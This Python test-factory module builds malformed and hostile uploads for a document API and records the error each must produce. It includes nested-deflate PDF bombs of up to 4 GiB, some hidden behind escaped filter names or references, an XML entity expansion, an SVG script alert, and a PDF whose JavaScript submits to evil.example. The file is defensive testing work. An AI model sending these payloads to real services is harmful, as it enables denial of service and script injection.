"""A corpus of malformed and hostile uploads, built in memory and deterministic.

Every entry is small to build and to send: bombs are tiny files that *declare* huge
dimensions, page counts or inflated sizes. Each says how the API must answer it (a 4xx
status and a problem type code). :func:`corpus` lists them; the hostile-but-valid files
(a PDF carrying JavaScript and an attachment) are separate functions below.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from PIL import Image

from tests.factories import files
from tests.factories.files import _png_chunk, _tiff_ifd

__all__ = [
    "ATTACHMENT_MARKER",
    "SCRIPT_MARKER",
    "VISIBLE_MARKER",
    "Hostile",
    "corpus",
    "pdf_with_javascript_and_attachment",
    "pdf_with_object_streams",
]

MiB = 1024 * 1024
GiB = 1024 * MiB


@dataclass(frozen=True)
class Hostile:
    """One hostile upload: how to build it and how the API must answer it."""

    name: str
    build: Callable[[], bytes]
    status: int
    code: str
    category: str

    def data(self) -> bytes:
        return self.build()


# --------------------------------------------------------------------------------------
# PDF building blocks
# --------------------------------------------------------------------------------------

PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
ONE_KID = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CONTENT_TEXT = b"BT /F1 12 Tf 72 720 Td (Hostile corpus) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d" % len(data) + extra + b" >>\nstream\n" + data + b"\nendstream"


def _page(mediabox: bytes = b"[0 0 612 792]", *, parent: int = 2, contents: int = 4, font: int = 5) -> bytes:
    return (
        b"<< /Type /Page /Parent %d 0 R /MediaBox " % parent
        + mediabox
        + b" /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (font, contents)
    )


def _pdf(
    objects: Sequence[bytes],
    *,
    trailer: bytes = b"/Root 1 0 R",
    startxref: int | None = None,
    header: bytes = PDF_HEADER,
) -> bytes:
    """Numbered objects (1-based) with a classic xref table and trailer."""
    return files.pdf_from_objects(objects, header=header, trailer=trailer, startxref=startxref)


def _one_page(mediabox: bytes = b"[0 0 612 792]") -> bytes:
    return _pdf([CATALOG, ONE_KID, _page(mediabox), _stream(CONTENT_TEXT), FONT])


def _pages_tree(pages_dict: bytes) -> bytes:
    return _pdf([CATALOG, pages_dict, _page(), _stream(CONTENT_TEXT), FONT])


def _objstm_pdf(objstm_data: bytes, objstm_extra: bytes, *, offsets: Sequence[int]) -> bytes:
    """A PDF 1.5 file whose catalog (2), page tree (3) and page (4) live in object stream 1,
    with a content stream (5), a font (6) and a cross-reference stream (7)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    pos: dict[int, int] = {}
    pos[1] = len(out)
    out += (
        b"1 0 obj\n<< /Type /ObjStm /N 3 /First %d /Length %d" % (offsets[0], len(objstm_data))
        + objstm_extra
        + b" >>\nstream\n"
        + objstm_data
        + b"\nendstream\nendobj\n"
    )
    for num, body in ((5, _stream(CONTENT_TEXT)), (6, FONT)):
        pos[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    pos[7] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF), struct.pack(">BIH", 1, pos[1], 0)]
    rows += [struct.pack(">BIH", 2, 1, i) for i in range(3)]
    rows += [struct.pack(">BIH", 1, pos[n], 0) for n in (5, 6, 7)]
    table = b"".join(rows)
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % pos[7]
    )
    return bytes(out)


def _objstm_body() -> tuple[bytes, list[int]]:
    objs = [
        b"<< /Type /Catalog /Pages 3 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 6 0 R >> >> /Contents 5 0 R >>",
    ]
    body = b""
    rel: list[int] = []
    for obj in objs:
        rel.append(len(body))
        body += obj + b" "
    index = b" ".join(b"%d %d" % (num, off) for num, off in zip((2, 3, 4), rel, strict=True)) + b" "
    return index + body, [len(index)]


def _zeros_deflate(prefix: bytes, zeros: int) -> bytes:
    """A zlib stream of ``prefix`` followed by ``zeros`` zero bytes, built without
    compressing them: one full-flushed 1 MiB block is repeated, then the checksum is
    computed arithmetically (Adler-32 of zeros only advances its second half)."""
    assert zeros % MiB == 0
    c = zlib.compressobj(9)
    first = c.compress(prefix) + c.compress(b"\0" * MiB) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(b"\0" * MiB) + c.flush(zlib.Z_FULL_FLUSH)
    end = c.flush(zlib.Z_FINISH)[:-4]
    adler = zlib.adler32(prefix)
    a, b = adler & 0xFFFF, adler >> 16
    b = (b + a * (zeros % 65521)) % 65521
    return first + block * (zeros // MiB - 1) + end + struct.pack(">I", (b << 16) | a)


def _objstm_bomb(*, nested: bool, inflated: int) -> bytes:
    body, first = _objstm_body()
    data = _zeros_deflate(body, inflated)
    if nested:
        # Deflating a deflate stream of repeated blocks again: a few KB that expand to
        # the inner stream, which expands to ``inflated`` bytes.
        return _objstm_pdf(zlib.compress(data, 9), b" /Filter [/FlateDecode /FlateDecode]", offsets=first)
    return _objstm_pdf(data, b" /Filter /FlateDecode", offsets=first)


def _content_bomb() -> bytes:
    inner = _zeros_deflate(CONTENT_TEXT + b"\n", 4 * GiB)
    bomb = _stream(zlib.compress(inner, 9), b" /Filter [/FlateDecode /FlateDecode]")
    return _pdf([CATALOG, ONE_KID, _page(), bomb, FONT])


def _content_bomb_hidden(*, escaped: bool) -> bytes:
    inner = _zeros_deflate(CONTENT_TEXT + b"\n", GiB)
    packed = zlib.compress(inner, 9)
    if escaped:
        bomb = _stream(packed, b" /Filter [/Fl#61teDecode /Fl#61teDecode]")
        return _pdf([CATALOG, ONE_KID, _page(), bomb, FONT])
    # The filter array is an object of its own, which the stream refers to.
    bomb = _stream(packed, b" /Filter 6 0 R")
    return _pdf([CATALOG, ONE_KID, _page(), bomb, FONT, b"[/FlateDecode /FlateDecode]"])


def _truncated_objstm() -> bytes:
    body, first = _objstm_body()
    packed = zlib.compress(body, 9)
    # The compressed object stream is cut after its first bytes: catalog, page tree and
    # page are lost, though the file still ends properly.
    return _objstm_pdf(packed[:6], b" /Filter /FlateDecode", offsets=first)


def _page_tree_loop() -> bytes:
    # 2 is the root Pages node; its kid 3 is an intermediate node whose kids are 3's
    # own ancestor (2) and itself.
    return _pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 3 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 3 >>",
        ]
    )


def _deep_page_tree(levels: int) -> bytes:
    # Pages nodes nested ``levels`` deep above a single page.
    objs: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(levels):
        num = 2 + i
        parent = b"/Parent %d 0 R " % (num - 1) if i else b""
        objs.append(b"<< /Type /Pages " + parent + b"/Kids [%d 0 R] /Count 1 >>" % (num + 1))
    page_num = 2 + levels
    objs.append(_page(parent=page_num - 1, contents=page_num + 1, font=page_num + 2))
    objs.append(_stream(CONTENT_TEXT))
    objs.append(FONT)
    return _pdf(objs)


def _deep_arrays(levels: int) -> bytes:
    return _pages_tree(b"<< /Type /Pages /Kids " + b"[" * levels + b"3 0 R" + b"]" * levels + b" /Count 1 >>")


def _deep_dicts(levels: int) -> bytes:
    # The page tree's /Kids sits inside dictionaries nested ``levels`` deep; pdfium stops
    # parsing at 64 levels (dropping what is deeper), so the page cannot be found.
    nest = b"<</K" * levels + b" [3 0 R]" + b">>" * levels
    return _pages_tree(b"<< /Type /Pages /Kids " + nest + b" /Count 1 >>")


def _unknown_security_handler() -> bytes:
    ident = b"<00112233445566778899aabbccddeeff>"
    return _pdf(
        [
            CATALOG,
            ONE_KID,
            _page(),
            _stream(CONTENT_TEXT),
            FONT,
            b"<< /Filter /Hostile.Lock /V 9 /R 9 /Length 256 >>",
        ],
        trailer=b"/Root 1 0 R /Encrypt 6 0 R /ID [" + ident + b" " + ident + b"]",
    )


def _kids_not_pages() -> bytes:
    # The only kid is the catalog itself, then an integer: no page anywhere.
    return _pages_tree(b"<< /Type /Pages /Kids [1 0 R 42] /Count 2 >>")


def _missing_root() -> bytes:
    return _pdf([CATALOG, ONE_KID, _page(), _stream(CONTENT_TEXT), FONT], trailer=b"/Root 99 0 R")


# --------------------------------------------------------------------------------------
# Raster building blocks
# --------------------------------------------------------------------------------------

PNG_SIG = b"\x89PNG\r\n\x1a\n"


def _png(width: int, height: int, *, idat: bytes | None = None, chunks: Sequence[bytes] = ()) -> bytes:
    ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    if idat is None:
        # Complete pixel data for small images; a single row for the bombs.
        rows = height if 0 < height <= 64 else 1
        idat = zlib.compress((b"\x00" + b"\x80" * width) * rows, 9)
    return PNG_SIG + ihdr + b"".join(chunks) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def _small_png() -> bytes:
    return _png(8, 8)


def _png_bad_crc(kind: bytes) -> bytes:
    data = bytearray(_small_png())
    at = data.index(kind)
    length = struct.unpack(">I", data[at - 4 : at])[0]
    data[at + 4 + length] ^= 0xFF  # first byte of that chunk's CRC
    return bytes(data)


def _png_without(kind: bytes) -> bytes:
    data = _small_png()
    at = data.index(kind) - 4
    length = struct.unpack(">I", data[at : at + 4])[0]
    return data[:at] + data[at + 12 + length :]


def _png_giant_chunk_length() -> bytes:
    # A private chunk that claims 2 GiB - 1 bytes and then the file simply ends.
    return _small_png()[:33] + struct.pack(">I", 0x7FFFFFFF) + b"ruSt" + b"\0" * 64


def _apng_million_frames() -> bytes:
    actl = _png_chunk(b"acTL", struct.pack(">II", 1_000_000, 0))
    fctl = _png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 8, 8, 0, 0, 1, 10, 0, 0))
    return _png(8, 8, chunks=[actl, fctl])


def _small_jpeg() -> bytes:
    return files.jpeg(width=32, height=24, text="x", quality=50)


def _jpeg_sized(width: int, height: int) -> bytes:
    data = bytearray(_small_jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _jpeg_no_sof() -> bytes:
    data = _small_jpeg()
    at = data.index(b"\xff\xc0")
    length = struct.unpack(">H", data[at + 2 : at + 4])[0]
    return data[:at] + data[at + 2 + length :]


def _jpeg_segment_overruns() -> bytes:
    # An APP1 segment that claims 65 KB in a file of a few hundred bytes.
    return b"\xff\xd8\xff\xe1\xff\xf0Exif\0\0" + b"\0" * 200


def _tiff(width: int, height: int, *, frames: int = 1) -> bytes:
    strip = width * height if width * height <= 4096 else 16
    ifd_size = 2 + 9 * 12 + 4
    out = bytearray(b"II*\x00" + struct.pack("<I", 8 + strip))
    out += b"\x80" * strip
    for i in range(frames):
        here = 8 + strip + i * ifd_size
        nxt = here + ifd_size if i + 1 < frames else 0
        out += _tiff_ifd(width, height, 8, strip, nxt)
    return bytes(out)


def _tiff_many_ifds(count: int) -> bytes:
    # One real IFD, then ``count - 1`` empty IFDs (6 bytes each) chained one after another.
    head = bytearray(_tiff(8, 8))
    first_ifd = struct.unpack("<I", head[4:8])[0]
    chain_start = len(head)
    head[first_ifd + 2 + 9 * 12 : first_ifd + 2 + 9 * 12 + 4] = struct.pack("<I", chain_start)
    chain = bytearray()
    for i in range(count - 1):
        nxt = chain_start + (i + 1) * 6 if i + 2 < count else 0
        chain += struct.pack("<HI", 0, nxt)
    return bytes(head + chain)


def _tiff_ifd_loop() -> bytes:
    data = bytearray(_tiff(8, 8, frames=2))
    first = struct.unpack("<I", data[4:8])[0]
    second = first + 2 + 9 * 12 + 4
    # The second IFD's "next" points back at the first one.
    data[second + 2 + 9 * 12 : second + 2 + 9 * 12 + 4] = struct.pack("<I", first)
    return bytes(data)


def _tiff_ifd_past_eof() -> bytes:
    return b"II*\x00" + struct.pack("<I", 0x7FFF0000) + b"\0" * 32


def _tiff_huge_entry_count() -> bytes:
    return b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0xFFFF) + b"\0" * 64


def _bigtiff_huge() -> bytes:
    # BigTIFF: 8-byte offsets, 20-byte entries; one IFD declaring 2^20 x 2^20 pixels.
    entries = [
        (256, 16, 1, 1 << 20),
        (257, 16, 1, 1 << 20),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 16, 1, 16),
        (277, 3, 1, 1),
        (278, 16, 1, 1 << 20),
        (279, 16, 1, 16),
    ]
    ifd = struct.pack("<Q", len(entries))
    for tag, typ, count, value in entries:
        ifd += struct.pack("<HHQQ", tag, typ, count, value)
    ifd += struct.pack("<Q", 0)
    return b"II+\x00" + struct.pack("<HHQ", 8, 0, 32) + b"\x80" * 16 + ifd


def _pil_bytes(fmt: str, **save: object) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (16, 12), (200, 40, 40)).save(buf, format=fmt, **save)
    return buf.getvalue()


# --------------------------------------------------------------------------------------
# Other formats and polyglots
# --------------------------------------------------------------------------------------

SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b"<script>alert(document.domain)</script><rect width='100' height='100'/></svg>\n"
)
XML = (
    b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n<r>&b;</r>\n'
)
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\0" * 50
    + b"This program cannot be run in DOS mode.\r\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\0" * 40


def _webp() -> bytes:
    payload = b"WEBPVP8 " + struct.pack("<I", 10) + b"\x30\x01\x00\x9d\x01\x2a\x01\x00\x01\x00"
    return b"RIFF" + struct.pack("<I", len(payload)) + payload


def _gzip() -> bytes:
    import gzip

    return gzip.compress(b"%PDF-1.7 inside a gzip\n", mtime=0)


def _html_wrapping_pdf() -> bytes:
    # An HTML page whose comment carries a whole, valid PDF (its header within the
    # first 1024 bytes, as PDF readers tolerate); the file ends with the PDF's %%EOF.
    return b"<!DOCTYPE html><html><head><title>x</title></head><body><!--\n" + files.text_pdf(1)


def _prefixed_pdf(prefix: bytes) -> bytes:
    return prefix + files.text_pdf(1)


def _zip_then_pdf() -> bytes:
    return _prefixed_pdf(files.zip_bytes()[:200])


CORPUS: list[Hostile] = []


def _add(category: str, name: str, status: int, code: str, build: Callable[[], bytes]) -> None:
    CORPUS.append(Hostile(name=name, build=build, status=status, code=code, category=category))


UNREADABLE, UNSUPPORTED, TOO_LARGE = "unreadable-document", "unsupported-media-type", "image-too-large"
AMBIGUOUS, PAGES, ENCRYPTED = "ambiguous-document", "too-many-pages", "encrypted-document"

# Empty, magic-only and foreign formats.
_add("empty", "zero-bytes", 422, "empty-document", lambda: b"")
_add("empty", "whitespace-only", 415, UNSUPPORTED, lambda: b" \r\n\t \n")
_add("magic-only", "pdf-magic-only", 422, UNREADABLE, lambda: b"%PDF-")
_add("magic-only", "pdf-header-and-eof-only", 422, UNREADABLE, lambda: b"%PDF-1.7\n%%EOF\n")
_add("magic-only", "png-signature-only", 422, UNREADABLE, lambda: PNG_SIG)
_add("magic-only", "jpeg-soi-only", 422, UNREADABLE, lambda: b"\xff\xd8\xff")
_add("magic-only", "tiff-header-only", 422, UNREADABLE, lambda: b"II*\x00")
_add("foreign", "gif", 415, UNSUPPORTED, files.gif)
_add("foreign", "webp", 415, UNSUPPORTED, _webp)
_add("foreign", "bmp", 415, UNSUPPORTED, lambda: _pil_bytes("BMP"))
_add("foreign", "zip", 415, UNSUPPORTED, files.zip_bytes)
_add("foreign", "gzip", 415, UNSUPPORTED, _gzip)
_add("foreign", "html", 415, UNSUPPORTED, files.html_named_pdf)
_add("foreign", "svg-with-script", 415, UNSUPPORTED, lambda: SVG)
_add("foreign", "xml-entity-expansion", 415, UNSUPPORTED, lambda: XML)
_add("foreign", "windows-exe", 415, UNSUPPORTED, lambda: EXE)
_add("foreign", "elf-binary", 415, UNSUPPORTED, lambda: ELF)
_add("foreign", "control-characters", 415, UNSUPPORTED, lambda: b"\x00\x01\x02\x1b[31m\x07\x08\x7f" * 8)

# Polyglots: one file that is two formats at once.
_add("polyglot", "pdf-with-appended-zip", 422, AMBIGUOUS, files.polyglot_pdf_zip)
_add(
    "polyglot",
    "pdf-with-large-appended-zip",
    422,
    AMBIGUOUS,
    lambda: files.text_pdf(1) + files.zip_bytes() * 12,
)
_add("polyglot", "html-wrapping-a-pdf", 422, AMBIGUOUS, _html_wrapping_pdf)
_add("polyglot", "zip-header-then-pdf", 422, AMBIGUOUS, _zip_then_pdf)
_add(
    "polyglot",
    "gif-header-then-pdf",
    422,
    AMBIGUOUS,
    lambda: _prefixed_pdf(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
)
_add("polyglot", "exe-header-then-pdf", 422, AMBIGUOUS, lambda: _prefixed_pdf(EXE))
_add("polyglot", "png-with-appended-pdf", 422, AMBIGUOUS, lambda: _small_png() + files.text_pdf(1))
_add("polyglot", "jpeg-with-appended-pdf", 422, AMBIGUOUS, lambda: _small_jpeg() + files.text_pdf(1))
_add("polyglot", "jpeg-with-appended-zip", 422, AMBIGUOUS, lambda: _small_jpeg() + files.zip_bytes())

# Raster bombs and broken rasters.
_add("image-bomb", "png-100000x100000", 422, TOO_LARGE, lambda: _png(100_000, 100_000))
_add("image-bomb", "jpeg-65000x65000", 422, TOO_LARGE, lambda: _jpeg_sized(65_000, 65_000))
_add("image-bomb", "tiff-100000x100000", 422, TOO_LARGE, lambda: _tiff(100_000, 100_000))
_add("image-bomb", "bigtiff-2^20x2^20", 422, TOO_LARGE, _bigtiff_huge)
_add("image-bomb", "apng-declares-a-million-frames", 422, PAGES, _apng_million_frames)
_add("image-bomb", "tiff-100000-ifds", 422, PAGES, lambda: _tiff_many_ifds(100_000))
_add("image-broken", "png-1x0", 422, UNREADABLE, lambda: _png(1, 0))
_add("image-broken", "png-0x0", 422, UNREADABLE, lambda: _png(0, 0))
_add("image-broken", "png-bad-ihdr-crc", 422, UNREADABLE, lambda: _png_bad_crc(b"IHDR"))
_add("image-broken", "png-bad-idat-crc", 422, UNREADABLE, lambda: _png_bad_crc(b"IDAT"))
_add("image-broken", "png-truncated", 422, UNREADABLE, files.truncated_png)
_add("image-broken", "png-without-idat", 422, UNREADABLE, lambda: _png_without(b"IDAT"))
_add("image-broken", "png-without-iend", 422, UNREADABLE, lambda: _png_without(b"IEND"))
_add("image-broken", "png-2gib-chunk-length", 422, UNREADABLE, _png_giant_chunk_length)
_add("image-broken", "jpeg-truncated", 422, UNREADABLE, lambda: _small_jpeg()[: len(_small_jpeg()) // 2])
_add("image-broken", "jpeg-zero-height", 422, UNREADABLE, lambda: _jpeg_sized(32, 0))
_add("image-broken", "jpeg-without-frame-header", 422, UNREADABLE, _jpeg_no_sof)
_add("image-broken", "jpeg-segment-overruns-file", 422, UNREADABLE, _jpeg_segment_overruns)
_add("image-broken", "tiff-1x0", 422, UNREADABLE, lambda: _tiff(1, 0))
_add("image-broken", "tiff-ifd-loop", 422, UNREADABLE, _tiff_ifd_loop)
_add("image-broken", "tiff-ifd-past-eof", 422, UNREADABLE, _tiff_ifd_past_eof)
_add("image-broken", "tiff-65535-entries-in-a-tiny-file", 422, UNREADABLE, _tiff_huge_entry_count)
_add("image-broken", "tiff-strip-past-eof", 422, UNREADABLE, files.tiff_with_broken_frame)

# PDF structure: absurd pages, loops, nesting, broken cross-references, bombs.
_add("pdf-pages", "pdf-mediabox-1e9", 422, UNREADABLE, lambda: _one_page(b"[0 0 1000000000 1000000000]"))
_add(
    "pdf-pages",
    "pdf-mediabox-negative-1e9",
    422,
    UNREADABLE,
    lambda: _one_page(b"[0 0 -1000000000 -1000000000]"),
)
_add("pdf-pages", "pdf-mediabox-tiny", 422, UNREADABLE, lambda: _one_page(b"[0 0 0.001 0.001]"))
_add(
    "pdf-pages",
    "pdf-count-100000",
    422,
    PAGES,
    lambda: _pages_tree(b"<< /Type /Pages /Kids [3 0 R] /Count 100000 >>"),
)
_add("pdf-pages", "pdf-no-pages", 422, UNREADABLE, files.empty_pdf_no_pages)
_add("pdf-structure", "pdf-page-tree-loop", 422, UNREADABLE, _page_tree_loop)
_add("pdf-structure", "pdf-page-tree-2000-levels", 422, UNREADABLE, lambda: _deep_page_tree(2000))
_add("pdf-structure", "pdf-kids-are-not-pages", 422, UNREADABLE, _kids_not_pages)
_add("pdf-structure", "pdf-100000-nested-arrays", 422, UNREADABLE, lambda: _deep_arrays(100_000))
_add("pdf-structure", "pdf-100000-nested-dicts", 422, UNREADABLE, lambda: _deep_dicts(100_000))
_add("pdf-structure", "pdf-root-missing", 422, UNREADABLE, _missing_root)
_add(
    "pdf-structure",
    "pdf-xref-outside-file",
    422,
    UNREADABLE,
    lambda: _pdf([CATALOG, ONE_KID, _page(), _stream(CONTENT_TEXT), FONT], startxref=10**12),
)
_add("pdf-structure", "pdf-truncated", 422, UNREADABLE, files.truncated_pdf)
_add("pdf-structure", "pdf-garbage-after-header", 422, UNREADABLE, files.corrupt_pdf)
_add("pdf-structure", "pdf-object-stream-truncated", 422, UNREADABLE, _truncated_objstm)
_add(
    "pdf-bomb",
    "pdf-object-stream-nested-flate-4gib",
    422,
    UNREADABLE,
    lambda: _objstm_bomb(nested=True, inflated=4 * GiB),
)
_add(
    "pdf-bomb",
    "pdf-object-stream-flate-1gib",
    422,
    UNREADABLE,
    lambda: _objstm_bomb(nested=False, inflated=GiB),
)
_add("pdf-bomb", "pdf-content-stream-nested-flate-4gib", 422, UNREADABLE, _content_bomb)
_add(
    "pdf-bomb",
    "pdf-nested-flate-behind-a-reference",
    422,
    UNREADABLE,
    lambda: _content_bomb_hidden(escaped=False),
)
_add(
    "pdf-bomb",
    "pdf-nested-flate-in-escaped-names",
    422,
    UNREADABLE,
    lambda: _content_bomb_hidden(escaped=True),
)
_add("pdf-encrypted", "pdf-password", 422, ENCRYPTED, files.encrypted_pdf)
_add("pdf-encrypted", "pdf-unknown-security-handler", 422, ENCRYPTED, _unknown_security_handler)


def corpus() -> list[Hostile]:
    """Every hostile upload, in a stable order; names are unique."""
    return list(CORPUS)


# --------------------------------------------------------------------------------------
# Hostile but valid: must be accepted and handled safely
# --------------------------------------------------------------------------------------

SCRIPT_MARKER = "pagemill-hostile-script-7f3a"
ATTACHMENT_MARKER = "pagemill-hostile-attachment-91c2"
VISIBLE_MARKER = "Quarterly report 2026"


def pdf_with_object_streams() -> bytes:
    """A well-formed PDF 1.5 whose catalog, page tree and page live in a compressed object
    stream (as most modern producers write them): the bomb checks must let it through."""
    body, first = _objstm_body()
    return _objstm_pdf(zlib.compress(body, 9), b" /Filter /FlateDecode", offsets=first)


def pdf_with_javascript_and_attachment() -> bytes:
    """One page of visible text, an /OpenAction JavaScript and an embedded file.

    Neither :data:`SCRIPT_MARKER` (inside the script) nor :data:`ATTACHMENT_MARKER`
    (the attachment's content) may ever reach a conversion's output.
    """
    script = f"app.alert('{SCRIPT_MARKER}'); this.submitForm('https://evil.example/');".encode()
    attachment = f"secret attachment {ATTACHMENT_MARKER}\n".encode()
    content = b"BT /F1 14 Tf 72 720 Td (" + VISIBLE_MARKER.encode() + b") Tj ET"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R "
            b"/EmbeddedFiles 8 0 R >> >>",
            ONE_KID,
            _page(),
            _stream(content),
            FONT,
            b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>",
            b"<< /Names [(init) 6 0 R] >>",
            b"<< /Names [(notes.txt) 9 0 R] >>",
            b"<< /Type /Filespec /F (notes.txt) /UF (notes.txt) /EF << /F 10 0 R >> >>",
            _stream(attachment, b" /Type /EmbeddedFile /Subtype /text#2Fplain"),
        ]
    )
